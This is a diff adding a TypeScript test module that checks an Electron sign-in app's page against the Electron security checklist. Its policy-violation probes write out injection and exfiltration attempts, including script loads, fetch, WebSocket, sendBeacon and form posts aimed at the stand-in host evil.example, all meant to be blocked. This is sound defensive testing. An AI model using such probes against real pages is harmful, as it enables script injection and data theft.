@@ -1,0 +1,211 @@
+import assert from 'node:assert/strict';
+import { calls, events } from '../../../shared/contract.ts';
+import type { Shell } from '../../shell/launch.ts';
+
+/** One point of Electron's checklist as a page that was taken over would meet it. */
+export type PageCheck = { name: string; check: (shell: Shell) => Promise<void> };
+
+/** Runs a script in the page, as code of the page would. */
+const inPage = <T>(shell: Shell, script: string): Promise<T> => shell.page.evaluate(script) as Promise<T>;
+
+/** What the page's policy said no to while a script ran. */
+const violations = (shell: Shell, script: string) =>
+  inPage<string[]>(
+    shell,
+    `(async () => {
+      const found = [];
+      const note = (event) => found.push(event.effectiveDirective);
+      document.addEventListener('securitypolicyviolation', note);
+      try { ${script} } catch {}
+      for (let tries = 0; tries < 40 && found.length === 0; tries += 1) await new Promise((go) => setTimeout(go, 25));
+      document.removeEventListener('securitypolicyviolation', note);
+      return found;
+    })()`,
+  );
+
+const element = (name: string, members: string) =>
+  `document.body.append(Object.assign(document.createElement('${name}'), ${members}));`;
+
+const refusedByPolicy: [directive: RegExp, script: string][] = [
+  [/^script-src-elem/, element('script', "{ textContent: 'window.inlineRan = true' }")],
+  [/^script-src-elem/, element('script', "{ src: 'https://evil.example/a.js' }")],
+  [/^script-src-attr/, element('p', '{ innerHTML: \'<b onclick="window.inlineRan = true">x</b>\' }')],
+  [
+    /^script-src/, // Later, since the protocol that runs this script lets it evaluate.
+    "setTimeout(() => { try { eval('window.inlineRan = true') } catch {} })",
+  ],
+  [/^style-src-elem/, element('style', "{ textContent: 'body { opacity: 0 }' }")],
+  [/^img-src/, element('img', "{ src: 'https://evil.example/a.png' }")],
+  [/^connect-src/, "await fetch('https://evil.example/').catch(() => {})"],
+  [/^connect-src/, "await fetch('index.html').catch(() => {})"],
+  [/^connect-src/, "new WebSocket('wss://evil.example/')"],
+  [/^connect-src/, "navigator.sendBeacon('https://evil.example/', 'x')"],
+  [/^frame-src/, element('iframe', "{ src: 'https://evil.example/' }")],
+  [/^frame-src/, element('iframe', "{ src: 'index.html' }")],
+  [/^object-src/, element('object', "{ data: 'https://evil.example/a.swf' }")],
+  [/^worker-src/, "new Worker(URL.createObjectURL(new Blob(['1'])))"],
+  [/^media-src/, element('video', "{ src: 'https://evil.example/a.mp4' }")],
+  [
+    /^manifest-src/,
+    "document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: 'https://evil.example/m' }))",
+  ],
+  [/^base-uri/, element('base', "{ href: 'https://evil.example/' }")],
+  [
+    /^form-action/,
+    `const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
+     document.body.append(form); form.submit();`,
+  ],
+];
+
+const bridge = [
+  ...Object.keys(calls),
+  ...Object.keys(events).map((name) => `on${name.charAt(0).toUpperCase()}${name.slice(1)}`),
+];
+
+export const pageChecks: readonly PageCheck[] = [
+  {
+    name: '2 the page has nothing of Node',
+    check: async (shell) =>
+      assert.deepEqual(
+        await inPage(
+          shell,
+          '[typeof require, typeof process, typeof module, typeof Buffer, typeof global, typeof __dirname]',
+        ),
+        Array(6).fill('undefined'),
+      ),
+  },
+  {
+    name: '3 the page cannot reach into the bridge',
+    check: async (shell) => {
+      assert.deepEqual(
+        await inPage(
+          shell,
+          `(() => {
+            try { window.latchkey.signIn = () => 'mine'; } catch {}
+            try { window.latchkey = {}; } catch {}
+            try { delete window.latchkey; } catch {}
+            return [Object.isFrozen(window.latchkey), typeof window.latchkey.signIn, String(window.latchkey.signIn).includes('mine')];
+          })()`,
+        ),
+        [true, 'function', false],
+      );
+    },
+  },
+  {
+    name: '5 the page is denied every permission',
+    check: async (shell) => {
+      const states = await inPage<string[]>(
+        shell,
+        `Promise.all(['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi']
+          .map((name) => navigator.permissions.query({ name, sysex: true }).then(({ state }) => state, () => 'denied')))`,
+      );
+      assert.deepEqual([...new Set(states)], ['denied']);
+    },
+  },
+  {
+    name: '7 the page runs nothing inline or foreign, and reaches nothing',
+    check: async (shell) => {
+      for (const [directive, script] of refusedByPolicy) {
+        const found = await violations(shell, script);
+        assert(
+          found.length > 0 && found.every((one) => directive.test(one)),
+          `${script}: ${found.join(', ') || 'went through'}`,
+        );
+      }
+      assert.equal(await inPage(shell, 'window.inlineRan'), undefined);
+    },
+  },
+  {
+    name: '1 all that the page loaded is its own',
+    check: async (shell) => {
+      const loaded = await inPage<string[]>(
+        shell,
+        "performance.getEntriesByType('resource').filter(({ responseStatus }) => responseStatus !== 0).map(({ name }) => new URL(name).origin).concat(location.origin)",
+      );
+      assert.equal(new Set(loaded).size, 1);
+    },
+  },
+  {
+    name: '14 the page opens no window',
+    check: async (shell) => {
+      await inPage(shell, "open('https://evil.example/'), open('index.html'), 0");
+      await shell.page.waitForTimeout(300);
+      assert.equal(shell.page.context().pages().length, 1);
+    },
+  },
+  {
+    name: '20 the page has named calls and events, and nothing of Electron',
+    check: async (shell) => {
+      assert.deepEqual(await inPage(shell, 'Object.keys(window.latchkey).sort()'), [...bridge].sort());
+      assert.deepEqual(
+        await inPage(
+          shell,
+          "['electron', 'ipcRenderer', 'ipc', 'invoke'].filter((name) => name in window || name in window.latchkey)",
+        ),
+        [],
+      );
+      const heard = await inPage<unknown[][]>(
+        shell,
+        `(async () => {
+          const heard = [];
+          const stop = window.latchkey.${bridge.find((name) => name.startsWith('on'))}((...parts) => heard.push(parts));
+          await window.latchkey.signIn({ profileId: 'none', username: 'x', password: 'not-a-real-one' }).catch(() => {});
+          await window.latchkey.signIn({ profileId: 'demo', username: 'x', password: 'not-a-real-one' }).catch(() => {});
+          stop();
+          return heard;
+        })()`,
+      );
+      assert(heard.length > 0, 'something was heard');
+      for (const parts of heard) {
+        assert.equal(parts.length, 1);
+        assert.equal(typeof parts[0], 'object');
+      }
+    },
+  },
+  {
+    name: '13 the page cannot leave',
+    check: async (shell) => {
+      const before = shell.page.url();
+      await inPage(shell, "location.href = 'https://evil.example/', 0").catch(() => {});
+      await shell.page.waitForTimeout(300);
+      assert.equal(shell.page.url(), before);
+    },
+  },
+  {
+    name: '15 nothing was opened outside',
+    check: async (shell) => assert.deepEqual(shell.openedUrls(), []),
+  },
+  {
+    name: 'the window was made with what the checklist asks',
+    check: async (shell) => {
+      const [made] = shell.calls('new BrowserWindow');
+      const { webPreferences = {} } = (made?.value ?? {}) as { webPreferences?: Record<string, unknown> };
+      const asked = {
+        sandbox: true,
+        contextIsolation: true,
+        webSecurity: true,
+        nodeIntegration: false,
+        nodeIntegrationInWorker: false,
+        nodeIntegrationInSubFrames: false,
+        allowRunningInsecureContent: false,
+        experimentalFeatures: false,
+        webviewTag: false,
+        navigateOnDragDrop: false,
+      };
+      assert.deepEqual(Object.fromEntries(Object.keys(asked).map((name) => [name, webPreferences[name]])), asked);
+      assert.equal(shell.calls('app.enableSandbox').length, 1);
+    },
+  },
+];
+
+/** The points that do not hold in a page, by name. */
+export async function failedPageChecks(shell: Shell): Promise<string[]> {
+  const failed: string[] = [];
+  for (const { name, check } of pageChecks)
+    try {
+      await check(shell);
+    } catch {
+      failed.push(name);
+    }
+  return failed;
+}
